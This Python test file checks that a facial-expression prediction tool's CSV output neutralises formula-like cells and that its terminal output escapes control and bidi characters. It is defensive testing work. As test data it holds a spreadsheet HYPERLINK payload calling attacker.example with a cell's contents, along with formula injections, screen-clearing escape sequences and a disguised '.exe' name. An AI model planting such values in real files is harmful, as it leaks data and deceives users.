"""predictions.csv goes to spreadsheets: a file name or a checkpoint's class name starting like a
formula must reach them as text (CSV injection), in the header and in every row."""
from __future__ import annotations

import csv
import io

from fermodels.predictions import csv_text

EVIL = '=HYPERLINK("http://attacker.example/?"&A1,"Happy")'


def test_no_csv_cell_starts_like_a_formula():
    classes = (EVIL, "Happy", "@SUM(1+1)")
    row = {"source": "=2+3.jpg", "frame": 0, "face": 0, "box": [-1.5, 2.0, 30.0, 40.0], "score": 0.99,
           "expression": EVIL, EVIL: 0.7, "Happy": 0.2, "@SUM(1+1)": 0.1}
    text = csv_text([row], classes, header=True)
    cells = [c for line in csv.reader(io.StringIO(text)) for c in line]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], text
    header, values = list(csv.reader(io.StringIO(text)))
    assert values[0] == "'=2+3.jpg" and header[-4] == "'" + EVIL and values[3] == "-1.5"   # numbers stay numbers


class _Stdout:
    """A standard output that is a terminal or not."""

    def __init__(self, tty: bool):
        self.buffer, self.tty = io.BytesIO(), tty

    def isatty(self) -> bool:
        return self.tty

    def flush(self) -> None:
        pass


def test_the_csv_shown_on_a_terminal_is_inert_and_piped_is_exact(monkeypatch):
    """``ferdata predict photos/`` without --out prints its CSV: a file named with ESC sequences cleared
    the user's screen or set the terminal's title, a carriage return hid the row (audit h72). Piped or
    redirected, the CSV keeps every name as it is."""
    import os
    import sys

    from ferdata.cli import write_stdout

    names = ["esc\x1b[2J\x1b]0;title\x07.jpg", "cr\rdone.jpg", os.fsdecode(b"bad\xff.jpg"), "rlo\u202egpj.exe"]
    text = "source,frame\n" + "".join(f"{name},0\n" for name in names)
    for tty in (True, False):
        out = _Stdout(tty)
        monkeypatch.setattr(sys, "stdout", out)
        write_stdout(text)
        got = out.buffer.getvalue()
        if tty:
            shown = got.decode("ascii")          # every control, bidi or undecodable character escaped
            assert "\x1b" not in shown and "\r" not in shown and "\x07" not in shown, repr(shown)
            assert shown.split("\n")[1:4] == ["esc\\x1b[2J\\x1b]0;title\\x07.jpg,0", "cr\\rdone.jpg,0",
                                              "bad\\udcff.jpg,0"]
        else:
            assert got == text.encode("utf-8", "surrogateescape")
